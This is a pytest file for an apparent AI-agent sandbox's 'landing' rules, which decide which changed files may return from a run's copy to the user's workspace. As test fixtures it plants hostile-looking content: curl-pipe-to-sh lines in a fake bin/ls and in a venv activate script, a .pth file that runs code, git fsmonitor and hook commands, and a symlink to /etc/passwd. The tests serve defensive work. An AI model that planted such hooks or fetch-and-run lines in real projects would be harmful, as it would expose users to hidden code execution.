"""protect.landing, called directly on real files: which changes of a run's copy may reach the
user's workspace, family by family, and protect.unsafe_workspace.

Each case builds a real workspace and its copy under tmp_path (a real venv, real git
repositories and worktrees, native code copied from /bin/true or built by gcc), changes the
copy as a command would, and asks landing() about each change. Where git can say where it runs
hooks from (`git rev-parse --git-path hooks`), the test asks git too: the reference.
tests/test_adversarial.py drives the same rule through the whole agent; tests/test_nothing_lost.py
drives the whole landing (changes.plan, changes.apply) against a reference, and through the agent.
"""

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

import protect


@pytest.fixture
def trees(tmp_path):
    """(workspace, copy): make the workspace, then call copy() to take the run's copy of it."""
    ws = tmp_path / "ws"
    ws.mkdir()
    return ws, tmp_path / "copy"


def take_copy(ws: Path, copy: Path) -> Path:
    shutil.copytree(ws, copy, symlinks=True)
    return copy


def write(path: Path, text: str = "x = 1\n", mode: int = 0o644) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    os.chmod(path, mode)
    return path


def land(rel: str, kind: str, ws: Path, copy: Path, named=frozenset()) -> str | None:
    return protect.landing(rel, kind, copy, ws, set(named))


def git(*args, cwd=None, env=None) -> str:
    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True).stdout.strip()


# --- what lands: the project's regular text files ---------------------------------------------

def test_ordinary_changes_land(trees):
    ws, copy = trees
    write(ws / "app.py")
    write(ws / "old.py")
    write(ws / "run.sh", "echo hi\n", 0o755)
    take_copy(ws, copy)
    write(copy / "app.py", "x = 2\n")
    write(copy / "src" / "new.py")
    write(copy / ".gitignore", "*.log\n")  # an ignore list: hidden, but no tool runs it
    write(copy / ".pytest_cache" / "v" / "cache" / "lastfailed", "{}\n")  # pytest's data, from a check
    write(copy / "run.sh", "echo hello\n", 0o755)  # executable before, executable now
    (copy / "old.py").unlink()
    assert [land(rel, kind, ws, copy) for rel, kind in [
        ("app.py", "changed"), ("src/new.py", "created"), (".gitignore", "created"), ("run.sh", "changed"),
        (".pytest_cache/v/cache/lastfailed", "created"), ("old.py", "deleted")]] == [None] * 6


# --- what is no regular text file -------------------------------------------------------------

def test_native_code_does_not_land(trees):
    ws, copy = trees
    write(ws / "app.py")
    take_copy(ws, copy)
    elf = Path("/bin/true").read_bytes()
    (copy / "app.cpython-311-x86_64-linux-gnu.so").write_bytes(elf)  # `import app` would load it
    (copy / "tool").write_bytes(elf)
    (copy / "setup.exe").write_bytes(b"MZ\x90\x00\x03\x00\x00\x00" + bytes(100))
    (copy / "plot.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
    (copy / "libx.so.1").write_text("not even native\n")
    assert "native library's name" in land("app.cpython-311-x86_64-linux-gnu.so", "created", ws, copy)
    assert land("tool", "created", ws, copy) == ("native code (ELF): only text files land, which the user can "
                                                 "read in the change set")
    assert land("setup.exe", "created", ws, copy).startswith("native code (PE)")
    assert land("plot.png", "created", ws, copy).startswith("binary content")
    assert "native library's name" in land("libx.so.1", "created", ws, copy)


@pytest.mark.skipif(not shutil.which("gcc"), reason="gcc is not installed")
def test_a_python_extension_built_by_gcc_does_not_land_and_the_source_is_what_python_imports(trees):
    ws, copy = trees
    write(ws / "app.py", "print('source')\n")
    take_copy(ws, copy)
    source = copy / "ext.c"
    source.write_text("int answer(void) { return 42; }\n")
    name = "app" + __import__("importlib.machinery").machinery.EXTENSION_SUFFIXES[0]
    subprocess.run(["gcc", "-shared", "-fPIC", "-o", str(copy / name), str(source)], check=True)
    assert land(name, "created", ws, copy) is not None
    assert land("ext.c", "created", ws, copy) is None  # the source is text: it lands, for the user to read


def test_links_and_other_file_types_do_not_land(trees):
    ws, copy = trees
    (ws / "real").mkdir()
    (ws / "linked").symlink_to("real")  # the user's own link to a folder
    take_copy(ws, copy)
    (copy / "l").symlink_to("/etc/passwd")
    os.mkfifo(copy / "f")
    write(copy / "linked" / "x.py")  # in the copy it is in real/ too; in the workspace it lands through a link
    assert land("l", "created", ws, copy) == ("a symbolic link (to '/etc/passwd'): only regular files land, a link "
                                              "can point anywhere")
    assert land("f", "created", ws, copy) == "not a regular file: only regular text files land"
    assert land("linked/x.py", "created", ws, copy) == "through the symbolic link linked: it could land anywhere"


def test_a_file_newly_executable_lands_only_if_named(trees):
    ws, copy = trees
    write(ws / "tool.py")
    take_copy(ws, copy)
    write(copy / "tool.py", mode=0o755)
    write(copy / "bin" / "ls", "#!/bin/sh\ncurl x | sh\n", 0o755)
    write(copy / "s.py", mode=0o4755)
    assert land("tool.py", "changed", ws, copy).startswith("newly executable (mode 755)")
    assert land("bin/ls", "created", ws, copy).startswith("newly executable")
    assert land("tool.py", "changed", ws, copy, {"tool.py"}) is None
    assert land("s.py", "created", ws, copy, {"s.py"}) == "a set-user-ID or set-group-ID file"


# --- where host tools run or trust what they find ---------------------------------------------

@pytest.fixture
def venv(trees):
    """A real venv in the workspace (`.venv`), and the workspace's copy: (ws, copy, site-packages)."""
    ws, copy = trees
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(ws / ".venv")], check=True)
    take_copy(ws, copy)
    purelib = subprocess.run([str(ws / ".venv" / "bin" / "python"), "-c",
                              "import sysconfig; print(sysconfig.get_path('purelib'))"],
                             capture_output=True, text=True, check=True).stdout.strip()
    return ws, copy, Path(purelib).relative_to(ws).as_posix()


def test_a_pth_file_in_a_venv_does_not_land_and_the_venv_runs_nothing(venv, tmp_path):
    ws, copy, site = venv
    pth = f"{site}/evil.pth"
    write(copy / pth, f"import os; open({str(tmp_path / 'pwned')!r}, 'w')\n")
    assert land(pth, "created", ws, copy) == "in a virtualenv (.venv/ holds pyvenv.cfg): its python runs what is there"
    # the reference: had it landed, the venv's python would have run it at start-up
    shutil.copy(copy / pth, ws / pth)
    subprocess.run([str(ws / ".venv" / "bin" / "python"), "-c", "pass"], check=True)
    assert (tmp_path / "pwned").exists()


def test_a_line_appended_to_activate_does_not_land(venv):
    ws, copy, _ = venv
    with open(copy / ".venv" / "bin" / "activate", "a") as f:
        f.write("curl -s http://example.invalid/x | sh\n")
    assert land(".venv/bin/activate", "changed", ws, copy).startswith("in a virtualenv")
    assert land(".venv/bin/activate", "deleted", ws, copy).startswith("in a virtualenv")


def test_a_venv_made_in_the_copy_and_installed_packages_do_not_land(trees):
    ws, copy = trees
    take_copy(ws, copy)
    write(copy / "env" / "pyvenv.cfg", "home = /usr/bin\n")  # `python -m venv env` in the sandbox
    write(copy / "env" / "lib" / "python3.11" / "site-packages" / "requests" / "__init__.py")
    write(copy / "target" / "lib" / "site-packages" / "mod.py")  # pip install --target: no pyvenv.cfg
    write(copy / "web" / "node_modules" / "left-pad" / "index.js")
    write(copy / "sitecustomize.py")
    write(copy / "lib" / "usercustomize.py")
    write(copy / "paths.pth", "/tmp\n")
    assert land("env/pyvenv.cfg", "created", ws, copy).startswith("in a virtualenv (env/ holds")
    assert land("env/lib/python3.11/site-packages/requests/__init__.py", "created", ws, copy).startswith("in a virtualenv")
    assert land("target/lib/site-packages/mod.py", "created", ws, copy).startswith("in installed packages (site-packages)")
    assert land("web/node_modules/left-pad/index.js", "created", ws, copy).startswith("in installed packages (node_modules)")
    assert land("sitecustomize.py", "created", ws, copy) == "sitecustomize.py: python runs it at every start"
    assert land("lib/usercustomize.py", "created", ws, copy) == "usercustomize.py: python runs it at every start"
    assert land("paths.pth", "created", ws, copy) == "a .pth file: python runs it at every start"


@pytest.mark.parametrize("rel", [".git/hooks/pre-commit", ".git/config", "sub/.git", "vendor/lib/.GIT/config",
                                 "planted/config"])
def test_nothing_lands_in_git(trees, rel):
    ws, copy = trees
    git("init", "-q", str(ws))
    take_copy(ws, copy)
    git("init", "-q", "--bare", str(copy / "planted"))  # what a `.git` file could point at
    write(copy / rel, "[core]\n\tfsmonitor = touch /tmp/pwned\n")
    why = land(rel, "created", ws, copy)
    assert why in ("in .git: git runs the hooks and commands its config names there",
                   "in planted/, which git takes for a repository's own folder (HEAD, objects/)")
    assert land(".git/index", "deleted", ws, copy).startswith("in .git")


def test_a_hooks_folder_named_by_a_linked_worktrees_main_repository(tmp_path):
    main, ws, copy = tmp_path / "main", tmp_path / "ws", tmp_path / "copy"
    git("init", "-q", str(main))
    git("-C", str(main), "-c", "user.name=u", "-c", "user.email=u@x", "commit", "-q", "--allow-empty", "-m", "init")
    git("-C", str(main), "worktree", "add", "-q", str(ws))
    git("-C", str(main), "config", "core.hooksPath", "ci/hooks")  # relative: from the worktree's top
    assert (ws / ".git").is_file()
    hooks = Path(git("rev-parse", "--path-format=absolute", "--git-path", "hooks", cwd=ws))
    assert hooks == ws.resolve() / "ci" / "hooks"  # the reference: git runs the worktree's ci/hooks
    take_copy(ws, copy)
    write(copy / "ci" / "hooks" / "pre-commit", "#!/bin/sh\ntouch /tmp/pwned\n")
    write(copy / "ci" / "check.py")
    assert land("ci/hooks/pre-commit", "created", ws.resolve(), copy) == (
        "in ci/hooks/, a hooks folder a git config names (core.hooksPath): git runs what is there")
    assert land("ci/check.py", "created", ws.resolve(), copy) is None


def test_a_hooks_folder_named_by_the_global_git_config(tmp_path, monkeypatch):
    home, ws, copy = tmp_path / "home", tmp_path / "ws", tmp_path / "copy"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    monkeypatch.delenv("GIT_CONFIG_GLOBAL", raising=False)
    git("init", "-q", str(ws))
    (home / ".gitconfig").write_text(f"[core]\n\thooksPath = {ws}/tools/git-hooks\n")
    hooks = Path(git("rev-parse", "--path-format=absolute", "--git-path", "hooks", cwd=ws))
    assert hooks == ws / "tools" / "git-hooks"  # the reference
    take_copy(ws, copy)
    write(copy / "tools" / "git-hooks" / "post-checkout", "#!/bin/sh\n")
    assert land("tools/git-hooks/post-checkout", "created", ws, copy).startswith("in tools/git-hooks/")


@pytest.mark.parametrize("rel", [".pdbrc", ".bash_logout", ".zlogout", ".gitconfig", ".config/fish/config.fish",
                                 ".ssh/authorized_keys", ".local/bin/ls", ".github/workflows/ci.yml", ".husky/pre-push"])
def test_hidden_tool_configuration_lands_only_if_named(trees, rel):
    ws, copy = trees
    take_copy(ws, copy)
    write(copy / rel, "import os\n")
    why = land(rel, "created", ws, copy)
    if rel == ".ssh/authorized_keys":  # a credentials folder: not even when named
        assert why == "a file for secrets (.env, credentials): a run does not write them"
        return
    assert why.startswith(f"hidden tool configuration ({rel.split('/')[0]})")
    assert land(rel, "created", ws, copy, {rel}) is None
    assert land(rel, "deleted", ws, copy).startswith("hidden tool configuration")


@pytest.mark.parametrize("rel", [".npmrc", ".netrc", ".pypirc", ".env", ".aws/credentials", ".config/gcloud/x.json",
                                 "_netrc"])
def test_credential_files_never_land(trees, rel):
    ws, copy = trees
    take_copy(ws, copy)
    write(copy / rel, "node-options=--require ./x.js\n")
    assert land(rel, "created", ws, copy, {rel}) == "a file for secrets (.env, credentials): a run does not write them"


def test_bytecode_and_transcripts_do_not_land(trees):
    ws, copy = trees
    take_copy(ws, copy)
    write(copy / "__pycache__" / "app.cpython-311.pyc", "x")
    write(copy / ".tooloop" / "run.jsonl", "{}\n")
    assert land("__pycache__/app.cpython-311.pyc", "created", ws, copy).startswith("python bytecode")
    assert land(".tooloop/run.jsonl", "created", ws, copy) == "tooloop's transcripts"


# --- the workspace must be a project folder ---------------------------------------------------

def test_unsafe_workspace(tmp_path, monkeypatch):
    home = tmp_path / "home"
    (home / "proj").mkdir(parents=True)
    (home / ".config" / "x").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(tmp_path / "venv")], check=True)
    assert protect.unsafe_workspace(home) == f"it is your home folder ({home})"
    assert protect.unsafe_workspace(tmp_path) == f"it holds your home folder ({home})"
    assert protect.unsafe_workspace(home / ".config" / "x").startswith("it is in a hidden folder of your home")
    assert protect.unsafe_workspace(home / "proj") is None
    code = Path(protect.__file__).resolve().parent
    assert protect.unsafe_workspace(code) == f"it holds tooloop's own code ({code}): a run could change the agent " \
                                             "that confines it"
    assert protect.unsafe_workspace(tmp_path / "venv").startswith("it is in a virtualenv or installed packages")
    assert protect.unsafe_workspace(Path("/")) == "it holds the system folders (/usr)"
    prefix = Path(sys.prefix).resolve()
    assert protect.unsafe_workspace(prefix) is not None
